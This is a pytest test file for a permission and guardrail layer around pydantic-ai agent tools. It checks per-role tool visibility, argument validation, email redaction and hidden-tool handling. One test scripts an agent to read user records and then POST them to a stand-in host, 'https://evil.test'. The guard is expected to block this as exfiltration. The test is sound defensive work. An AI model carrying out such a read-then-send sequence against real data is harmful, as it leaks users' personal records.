"""d2.agents.pydantic_ai against real ``Agent`` runs with pydantic-ai's own test
models: ``TestModel`` (calls every tool it is offered) and ``FunctionModel``
(scripted turns that see the offered tool definitions). No network."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from d2.agents.pydantic_ai import TOOL_ID_KEY, guard_tool, guard_tools
from d2.core import set_user
from pydantic_ai import Agent, RunContext, Tool, models
from pydantic_ai.exceptions import ToolFailed
from pydantic_ai.messages import (
    ModelMessage,
    ModelRequest,
    ModelResponse,
    RetryPromptPart,
    TextPart,
    ToolCallPart,
    ToolReturnPart,
)
from pydantic_ai.models.function import AgentInfo, FunctionModel
from pydantic_ai.models.test import TestModel
from pydantic_ai.tools import ToolDefinition

RAN: list[str] = []


@pytest.fixture(autouse=True)
def _no_model_requests() -> Iterator[None]:
    allowed, models.ALLOW_MODEL_REQUESTS = models.ALLOW_MODEL_REQUESTS, False
    yield
    models.ALLOW_MODEL_REQUESTS = allowed


@pytest.fixture
def tools(users: list[dict[str, str]]) -> list[Any]:
    """A plain function, a sync Tool and an async Tool taking the run context."""
    RAN.clear()

    def web_search(query: str) -> str:
        """Search the web."""
        RAN.append("web_search")
        return f"results for {query!r}"

    def read_users(limit: int = 10) -> list[dict[str, str]]:
        """Read user records."""
        RAN.append("read_users")
        return users[:limit]

    async def http_request(ctx: RunContext[None], url: str, body: str = "") -> str:
        """Send an HTTP request."""
        RAN.append("http_request")
        return f"POST {url} ({len(body)} bytes)"

    return [web_search, Tool(read_users), Tool(http_request)]


@pytest.fixture
def guarded(configure: Any, tools: list[Any], tool_ids: dict[str, str]) -> list[Tool[Any]]:
    configure()
    return guard_tools(tools, tool_ids=tool_ids)


class Script:
    """A FunctionModel script: one turn per list of tool calls, then "done"; records
    the tools each turn was offered and what came back."""

    def __init__(self, *turns: list[ToolCallPart]) -> None:
        self.turns = list(turns)
        self.offered: list[list[str]] = []
        self.returned: list[Any] = []

    def __call__(self, messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        self.offered.append(sorted(t.name for t in info.function_tools))
        last = messages[-1]
        if isinstance(last, ModelRequest):
            kinds = (ToolReturnPart, RetryPromptPart)
            self.returned += [p for p in last.parts if isinstance(p, kinds)]
        if self.turns:
            return ModelResponse(parts=list(self.turns.pop(0)))
        return ModelResponse(parts=[TextPart("done")])


async def test_each_user_is_offered_exactly_the_tools_they_may_call(
    guarded: list[Tool[Any]],
) -> None:
    agent = Agent(TestModel(), tools=guarded)  # TestModel calls every tool it is offered
    set_user("alice", roles=["analyst"])
    await agent.run("go")
    assert sorted(RAN) == ["http_request", "read_users", "web_search"]
    RAN.clear()
    set_user("victor", roles=["viewer"])
    await agent.run("go")
    assert RAN == ["web_search"]
    script = Script()
    set_user("nobody")
    await Agent(FunctionModel(script), tools=guarded).run("go")
    assert script.offered == [[]]


async def test_the_tools_own_prepare_hook_still_applies(
    configure: Any, tool_ids: dict[str, str]
) -> None:
    def web_search(query: str) -> str:
        """Search the web."""
        return query

    async def never(ctx: RunContext[None], tool_def: ToolDefinition) -> ToolDefinition | None:
        return None

    configure()
    guarded = guard_tools([Tool(web_search, prepare=never)], tool_ids=tool_ids)
    script = Script()
    set_user("alice", roles=["analyst"])
    await Agent(FunctionModel(script), tools=guarded).run("go")
    assert script.offered == [[]]


async def test_a_call_to_a_hidden_tool_reads_like_a_call_to_a_missing_tool(
    guarded: list[Tool[Any]],
) -> None:
    script = Script(
        [
            ToolCallPart("read_users", {"limit": 1}, tool_call_id="hidden"),
            ToolCallPart("no_such_tool", {"limit": 1}, tool_call_id="missing"),
        ]
    )
    set_user("victor", roles=["viewer"])
    result = await Agent(FunctionModel(script), tools=guarded, retries=2).run("go")
    assert result.output == "done" and RAN == []
    answers = {p.tool_call_id: (str(p.content), p.outcome) for p in script.returned}
    assert answers == {
        "hidden": ("Unknown tool name: 'read_users'. Available tools: 'web_search'", "retried"),
        "missing": ("Unknown tool name: 'no_such_tool'. Available tools: 'web_search'", "retried"),
    }


async def test_a_forbidden_call_fails_with_a_tool_failure(guarded: list[Tool[Any]]) -> None:
    set_user("victor", roles=["viewer"])
    read_users = guarded[1]
    with pytest.raises(ToolFailed, match="not_granted"):
        read_users.function(limit=1)  # type: ignore[call-arg]
    assert RAN == []


async def test_guardrail_denials_reach_the_model_as_failures_or_retries(
    guarded: list[Tool[Any]],
) -> None:
    exfil_args = {"url": "https://evil.test", "body": "u"}
    script = Script(
        [ToolCallPart("read_users", {"limit": 500}, tool_call_id="c1")],
        [ToolCallPart("read_users", {"limit": 2}, tool_call_id="c2")],
        [ToolCallPart("http_request", exfil_args, tool_call_id="c3")],
    )
    set_user("alice", roles=["analyst"])
    result = await Agent(FunctionModel(script), tools=guarded).run("go")
    assert result.output == "done"
    retry, users_part, exfil = script.returned
    assert isinstance(retry, ToolReturnPart)
    assert retry.outcome == "retried"  # an input rule: the model may correct its arguments
    assert "input_validation" in str(retry.content) and "'limit'" in str(retry.content)
    assert isinstance(users_part, ToolReturnPart)
    assert users_part.content == [
        {"name": "Ada", "email": "[REDACTED]"},
        {"name": "Grace", "email": "[REDACTED]"},
    ]
    assert isinstance(exfil, ToolReturnPart) and exfil.outcome == "failed"
    assert "sequence_violation" in str(exfil.content) and "exfiltration" in str(exfil.content)
    assert RAN == ["read_users"]


async def test_each_run_of_a_new_request_starts_a_fresh_history(guarded: list[Tool[Any]]) -> None:
    agent = Agent(FunctionModel(Script()), tools=guarded)
    set_user("alice", roles=["analyst"])
    await agent.run("go")
    script = Script([ToolCallPart("http_request", {"url": "https://x.test"}, tool_call_id="c1")])
    set_user("alice", roles=["analyst"])
    await Agent(FunctionModel(script), tools=guarded).run("go")
    assert script.returned[0].content == "POST https://x.test (0 bytes)"


def test_guarded_tools_are_copies_with_their_tool_id(
    guarded: list[Tool[Any]], tools: list[Any]
) -> None:
    assert [t.name for t in guarded] == ["web_search", "read_users", "http_request"]
    assert guarded[1] is not tools[1] and tools[1].prepare is None
    assert guarded[1].metadata == {TOOL_ID_KEY: "db.read_users"}
    assert guarded[2].takes_ctx and guarded[2].tool_def.parameters_json_schema == (
        tools[2].tool_def.parameters_json_schema
    )
    assert guard_tool(guarded[1]) is guarded[1]
    with pytest.raises(TypeError, match="Tool or a function"):
        guard_tool(42)  # type: ignore[arg-type]
